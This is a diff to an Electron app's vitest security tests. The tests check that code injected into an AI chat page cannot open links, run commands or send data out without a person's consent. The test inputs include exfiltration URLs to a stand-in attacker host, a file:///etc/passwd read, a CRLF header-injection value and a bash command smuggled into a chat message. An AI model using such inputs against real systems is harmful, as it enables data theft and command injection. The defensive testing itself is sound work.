@@ -6,6 +6,8 @@ import { expect, onTestFinished, test, vi } from 'vitest';
 import { routes } from '../../src-preload/contract/index.ts';
 import { AppRig } from '../fixtures/electron-app.ts';
 import { startMessagesApi } from '../fixtures/messages-api/server.ts';
+import { labels } from '../fixtures/window-labels.ts';
+import { Person } from '../fixtures/window-person.ts';
 
 const SOON = { timeout: 20_000, interval: 100 };
 const NO_ID = '00000000-0000-4000-8000-000000000000';
@@ -47,11 +49,12 @@ function inputsFor(route: string, outside: string): unknown[] {
     'settings.setKey': [{ name: 'brave-api-key', value: 'BSA-from-the-page' }],
     'settings.testKey': [{ name: 'openai-api-key', value: 'x\r\ny: z' }],
     'settings.revokeRule': [{ id: NO_ID }],
-    'app.openExternal': [
-      { url: 'https://evil.example/?stolen=1' },
-      { url: 'file:///etc/passwd' },
-      { url: 'mailto:evil@example.com?body=stolen' },
+    'conversations.openLink': [
+      { id: null, url: 'https://evil.example/?stolen=1' },
+      { id: null, url: 'file:///etc/passwd' },
+      { id: null, url: 'mailto:evil@example.com?body=stolen' },
     ],
+    'app.openKeyPage': [{ name: 'openai-api-key' }],
     'conversations.send': [
       { id: null, text: 'go' },
       { id: null, text: '/bash {"command": "touch /tmp/never"}' },
@@ -123,6 +126,10 @@ test('arbitrary code in the chat can widen, write, run and send nothing without 
         ),
       [route, input] as const,
     );
+  // The person asks once, with real keys: the calls of this model wait for them.
+  await new Person(running).ask('go');
+  await vi.waitFor(() => expect(api.requests.length).toBeGreaterThan(0), SOON);
+  const asked = api.requests.length;
   const before = (await request('settings.get', {})).data as Record<string, unknown>;
 
   const attacks = Object.values(routes).flatMap((groups) =>
@@ -148,8 +155,8 @@ test('arbitrary code in the chat can widen, write, run and send nothing without 
     }
   }, attacks);
 
-  // The model was asked and its calls are waiting for a person.
-  await vi.waitFor(() => expect(api.requests.length).toBeGreaterThan(0), SOON);
+  // The calls wait, and not one message of the page went out.
+  expect(api.requests).toHaveLength(asked);
   const consent = await running.consent();
   await consent.getByRole('alertdialog').waitFor();
 
@@ -159,7 +166,14 @@ test('arbitrary code in the chat can widen, write, run and send nothing without 
   >;
   for (const route of ['consent.state', 'consent.answer'])
     expect(new Set((seen[route] ?? []).map(({ error }) => error?.code)), route).toEqual(new Set(['wrong_surface']));
-  for (const route of ['app.openExternal', 'settings.showProfileFolder', 'settings.chooseWorkspace'])
+  for (const route of [
+    'conversations.send',
+    'conversations.retry',
+    'conversations.openLink',
+    'app.openKeyPage',
+    'settings.showProfileFolder',
+    'settings.chooseWorkspace',
+  ])
     expect(
       (seen[route] ?? []).filter(({ ok }) => ok),
       route,
@@ -191,10 +205,7 @@ test('the chat has no way to the consent surface, and cannot move or resize what
   const rig = new AppRig(context, { files: { 'notes.md': 'mine\n' } });
   const running = await rig.launch();
   const { app, chat } = running;
-  await chat.evaluate(() => {
-    const { steward } = globalThis as unknown as { steward: { request(r: string, i: unknown): Promise<unknown> } };
-    return steward.request('conversations.send', { id: null, text: 'run: touch never' });
-  });
+  await new Person(running).ask('run: touch never');
   const consent = await running.consent();
   await consent.getByRole('alertdialog').waitFor();
   const places = () =>
@@ -272,32 +283,57 @@ test("the chat's code cannot open the system's print dialogue, not by a frame ei
   expect(printed).toBe(0);
 });
 
-test('a link opens when a person clicks or presses it, once for each time', async (context) => {
-  const { app, chat } = await new AppRig(context).launch();
+test('a click of a person opens one address that stands in the conversation; any other is shown to them whole', async (context) => {
+  const running = await new AppRig(context).launch();
+  const { app, chat } = running;
+  const person = new Person(running);
   await app.evaluate(({ shell }) => {
     const opened: string[] = [];
     Object.assign(globalThis, { opened });
     Object.assign(shell, { openExternal: async (url: string) => void opened.push(url) });
   });
   const opened = () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
-  await chat.evaluate(() => {
+  await person.ask('I mean https://example.com/first, not the other one');
+  await person.waits();
+  // The page is taken over: whatever the person clicks, it asks for these, one after the other.
+  await chat.evaluate(async () => {
     const page = globalThis as unknown as {
-      steward: { request(r: string, i: unknown): Promise<unknown> };
+      steward: { request(r: string, i: unknown): Promise<{ data: readonly { id: string }[] }> };
       document: { body: { append(node: unknown): void }; createElement(name: string): Record<string, unknown> };
     };
-    const open = (url: string) => page.steward.request('app.openExternal', { url });
-    const button = Object.assign(page.document.createElement('button'), {
-      textContent: 'Open both',
-      style: 'position: fixed; inset: 0 auto auto 0; z-index: 9999',
-      onclick: () => void open('https://example.com/first').then(() => open('https://example.com/second')),
-    });
-    page.document.body.append(button);
-    void open('https://example.com/by-script');
+    const [conversation] = (await page.steward.request('conversations.list', {})).data;
+    const open = (url: string) => page.steward.request('conversations.openLink', { id: conversation?.id, url });
+    const button = (name: string, urls: readonly string[], left: number) =>
+      Object.assign(page.document.createElement('button'), {
+        textContent: name,
+        style: `position: fixed; top: 0; left: ${left}px; z-index: 9999`,
+        onclick: async () => {
+          for (const url of urls) await open(url);
+        },
+      });
+    page.document.body.append(button('Open both', ['https://example.com/first', 'https://example.com/second'], 0));
+    page.document.body.append(button('Send out', ['https://example.com/first?stolen=private+notes'], 200));
+    void open('https://example.com/first');
   });
-  const button = chat.getByRole('button', { name: 'Open both' });
-  await button.click();
+  const both = chat.getByRole('button', { name: 'Open both' });
+  await both.click();
   await vi.waitFor(async () => expect(await opened()).toEqual(['https://example.com/first']), SOON);
-  await button.press('Enter');
+  await both.press('Enter');
   await vi.waitFor(async () => expect(await opened()).toHaveLength(2), SOON);
+
+  await chat.getByRole('button', { name: 'Send out' }).click();
+  const question = await person.question();
+  expect(await question.innerText()).toContain('https://example.com/first?stolen=private+notes');
+  await running.shoot('consent-link');
+  await person.answers(labels.consent.doNotOpen);
+  await question.waitFor({ state: 'detached' });
   expect(new Set(await opened())).toEqual(new Set(['https://example.com/first']));
+
+  // The control: only that question kept it from leaving.
+  await chat.getByRole('button', { name: 'Send out' }).click();
+  await person.answers(labels.consent.open);
+  await vi.waitFor(
+    async () => expect(await opened()).toContain('https://example.com/first?stolen=private+notes'),
+    SOON,
+  );
 });
